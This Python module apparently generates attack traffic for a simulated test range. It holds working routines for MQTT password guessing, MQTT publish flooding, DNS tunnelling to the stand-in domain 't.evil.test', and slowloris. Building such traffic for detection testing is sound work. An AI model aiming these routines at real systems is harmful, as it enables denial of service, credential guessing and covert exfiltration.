"""The attacks that have no common tool: guessing and flooding an MQTT broker, a DNS tunnel, slowloris.

Runs inside a namespace with one JSON argument (see `assault`). Bounded by `flows` and `seconds`.
"""

import asyncio
import contextlib
import json
import random
import socket
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

from nervure_simulations.ranges.benign import dns_query


@dataclass(frozen=True, slots=True)
class Order:
    """What one scripted attack is asked to do."""

    source: str
    target: str
    port: int
    flows: int
    seconds: float
    few: bool
    password: str
    rng: random.Random


def mqtt_connect(client: str, user: str, password: str) -> bytes:
    """Return an MQTT 3.1.1 CONNECT packet with a name and a password."""
    fields = b"".join(len(text.encode()).to_bytes(2, "big") + text.encode() for text in (client, user, password))
    body = b"\x00\x04MQTT\x04\xc2\x00\x3c" + fields
    return b"\x10" + _length(len(body)) + body


def mqtt_publish(topic: str, payload: bytes) -> bytes:
    """Return an MQTT PUBLISH packet that asks for no answer."""
    body = len(topic).to_bytes(2, "big") + topic.encode() + payload
    return b"\x30" + _length(len(body)) + body


def _length(count: int) -> bytes:
    """Encode an MQTT "remaining length": seven bits a byte, the lowest first."""
    out = bytearray()
    while True:
        count, low = divmod(count, 128)
        out.append(low | (0x80 if count else 0))
        if not count:
            return bytes(out)


async def _connect(order: Order) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    async with asyncio.timeout(3.0):
        return await asyncio.open_connection(order.target, order.port, local_addr=(order.source, 0))


async def guess_mqtt(order: Order) -> None:
    """Try one password after the other, each on a connection of its own."""
    for number in range(order.flows):
        with contextlib.suppress(OSError, TimeoutError):
            reader, writer = await _connect(order)
            writer.write(
                mqtt_connect(
                    f"c{number}", order.rng.choice(("admin", "root", "mqtt")), f"{order.rng.getrandbits(40):x}"
                )
            )
            async with asyncio.timeout(2.0):
                await reader.read(64)
            writer.close()
        await asyncio.sleep(order.rng.uniform(0.2, 1.0) * order.seconds * 0.6 / order.flows)


async def flood_mqtt(order: Order) -> None:
    """Log in with a stolen password and publish as fast as the broker reads."""

    async def one(number: int) -> None:
        await asyncio.sleep(order.rng.uniform(0.0, order.seconds * 0.5))
        with contextlib.suppress(OSError, TimeoutError):
            reader, writer = await _connect(order)
            writer.write(mqtt_connect(f"f{number}-{order.rng.getrandbits(24):x}", "device", order.password))
            async with asyncio.timeout(2.0):
                await reader.read(64)
            for _ in range(order.rng.randint(20, 200)):
                writer.write(mqtt_publish("site/flood", bytes(order.rng.randint(10, 60))))
            async with asyncio.timeout(3.0):
                await writer.drain()
            writer.close()

    async with asyncio.TaskGroup() as group:
        for number in range(order.flows):
            group.create_task(one(number))


async def tunnel_dns(order: Order) -> None:
    """Carry stolen bytes out in long names."""
    loop = asyncio.get_running_loop()
    letters = "abcdefghijklmnopqrstuvwxyz234567"

    def name() -> str:
        labels = (
            "".join(order.rng.choices(letters, k=order.rng.randint(30, 60))) for _ in range(order.rng.randint(2, 3))
        )
        return ".".join([*labels, "t.evil.test"])

    async def one(queries: int) -> None:
        await asyncio.sleep(order.rng.uniform(0.0, order.seconds * 0.6))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setblocking(False)
            sock.bind((order.source, 0))
            sock.connect((order.target, order.port))
            for _ in range(queries):
                with contextlib.suppress(OSError, TimeoutError):
                    await loop.sock_sendall(sock, dns_query(order.rng, name(), order.rng.choice((10, 16))))
                    async with asyncio.timeout(1.0):
                        await loop.sock_recv(sock, 4096)

    async with asyncio.TaskGroup() as group:
        for _ in range(order.flows):
            group.create_task(one(order.rng.randint(6, 30) if order.few else 1))


async def slow_loris(order: Order) -> None:
    """Hold many connections with requests that never end."""

    async def one() -> None:
        await asyncio.sleep(order.rng.uniform(0.0, order.seconds * 0.2))
        with contextlib.suppress(OSError, TimeoutError):
            _, writer = await _connect(order)
            writer.write(b"GET / HTTP/1.1\r\nHost: range.test\r\n")
            try:
                for _ in range(int(order.seconds)):
                    await asyncio.sleep(order.rng.uniform(0.5, 1.0))
                    writer.write(b"X-a: %d\r\n" % order.rng.randint(1, 5000))
                    await writer.drain()
            finally:
                writer.close()

    async with asyncio.TaskGroup() as group:
        for _ in range(order.flows):
            group.create_task(one())


_KINDS: dict[str, Callable[[Order], Awaitable[None]]] = {
    "mqtt_guessing": guess_mqtt,
    "mqtt_flood": flood_mqtt,
    "dns_tunnel": tunnel_dns,
    "slowloris": slow_loris,
}


async def main(request: dict[str, Any]) -> None:
    """Carry out one request."""
    order = Order(
        source=request["source"],
        target=request["target"],
        port=request["port"],
        flows=request["flows"],
        seconds=request["seconds"],
        few=request["few"],
        password=request["password"],
        rng=random.Random(request["seed"]),
    )
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(order.seconds):
            await _KINDS[request["kind"]](order)


if __name__ == "__main__":
    asyncio.run(main(json.loads(sys.argv[1])))
